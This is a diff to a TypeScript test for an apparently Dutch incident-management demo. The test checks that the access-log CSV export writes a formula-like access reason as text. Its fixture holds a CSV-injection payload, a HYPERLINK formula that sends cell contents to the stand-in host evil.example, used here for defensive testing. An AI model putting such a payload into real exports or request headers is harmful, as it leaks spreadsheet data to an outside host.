@@ -265,9 +265,11 @@ describe('the privacyfunctionaris’ log', () => {
 
   it('the CSV exports a reason that looks like a formula as text (a leading quote), never as a formula', async () => {
     const dir = as['directeur@branding.demo']
-    const confidential = ((await dir.get('/api/v1/incidents?status=submitted&pageSize=50')).json().items as { id: string; confidential: boolean }[]).find((i) => i.confidential)!
+    // Any confidential one the directeur sees (how many incidents come before it depends on the day the demo was seeded).
+    const confidential = ((await dir.get('/api/v1/incidents?status=submitted&pageSize=200')).json().items as { id: string; confidential: boolean }[]).find((i) => i.confidential)
+    expect(confidential, 'a confidential demo incident').toBeDefined()
     const reason = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
-    const opened = await dir.request('GET', `/api/v1/incidents/${confidential.id}`, { headers: { 'x-access-reason': reason } })
+    const opened = await dir.request('GET', `/api/v1/incidents/${confidential!.id}`, { headers: { 'x-access-reason': reason } })
     expect(opened.status).toBe(200)
     const csv = (await as['privacy@kompas.demo'].get('/toegangslog.csv?breakGlass=1')).text
     const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))
